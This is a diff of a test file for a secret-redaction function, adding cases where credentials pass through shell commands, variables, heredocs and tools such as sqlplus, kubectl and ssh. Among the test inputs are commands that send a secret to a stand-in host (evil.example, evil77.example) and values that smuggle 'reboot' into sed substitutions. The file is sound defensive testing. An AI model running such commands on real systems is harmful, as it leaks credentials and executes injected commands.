@@ -152,6 +152,9 @@ describe("only the value goes", () => {
     ["sed -i 's/CHANGEME/reboot/e' secrets.yml", "sed -i 's/CHANGEME/reboot/e' secrets.yml"],
     ["sed -i 's/CHANGEME/$(reboot)/' secrets.yml", "sed -i 's/CHANGEME/$(reboot)/' secrets.yml"],
     [`redis-cli <<E\nAUTH ${S}\nPING\nE`, "redis-cli <<E\nAUTH X\nPING\nE"],
+    ["curl -K <(echo url=evil77.example)", "curl -K <(echo url=evil77.example)"],
+    ["curl -K - <<< 'url = evil77.example'", "curl -K - <<< 'url = evil77.example'"],
+    [`curl -K - <<< 'user = "bob:${S}"'`, `curl -K - <<< 'user = "bob:X"'`],
     ["GIT_ASKPASS=/tmp/a.sh git fetch", "GIT_ASKPASS=/tmp/a.sh git fetch"],
     ["bash -s --password-file - <<< reboot", "bash -s --password-file - <<< reboot"],
     [`curl https://${S}AbCd99@evil.example/x`, "curl https://X@evil.example/x"],
@@ -159,6 +162,33 @@ describe("only the value goes", () => {
   ])("%s", (text, expected) => {
     expect(redact(text).replace(/\[secret, \d+ characters\]/g, "X")).toBe(expected);
   });
+});
+
+test.each([
+  `X=${S}; sed -i "s/CHANGEME/$X/" secrets.yml`,
+  `X=${S}; sqlplus "u/\${X}@h"`,
+  `X=${S}; ftp -n h <<E\nuser u $X\nE`,
+  `X=${S}; openconnect --passwd-on-stdin h <<< "$X"`,
+  `X=${S}; restic -p <(echo "$X") ls`,
+  `X=${S}; mongosh --eval "db.auth('u','$X')"`,
+  `X=${S}; SENTRY_DSN=https://$X@h/1 npm start`,
+  `kubectl exec -it p -- sqlplus u/${S}@h`,
+  `ssh h "echo ${S} | openconnect --passwd-on-stdin v"`,
+  `ssh h 'sqlplus u/${S}@h'`,
+  `bash -c 'echo ${S} | openconnect --passwd-on-stdin h'`,
+  `gcloud secrets versions add x --data-file=<(echo ${S})`,
+  `kubectl create secret generic x --from-file=k=<(echo ${S})`,
+  `sshpass -d 3 ssh h 3<<< ${S}`,
+  `security unlock-keychain -p ${S} x.keychain`,
+  `cat > secrets.yml <<E\ndb: ${S}\nE`,
+])("also through a variable, another program or a file: %s", (text) => {
+  expect(redact(text)).not.toContain(S);
+  expect(redact(redact(text))).toBe(redact(text));
+});
+
+test("other variables of the same text stay readable", () => {
+  const said = redact(`H=evil77.example; X=${S}; ftp -n <<E\nopen $H\nuser u $X\nE`);
+  expect(said).toContain("H=evil77.example; X=[secret, 13 characters]; ");
 });
 
 test.each([
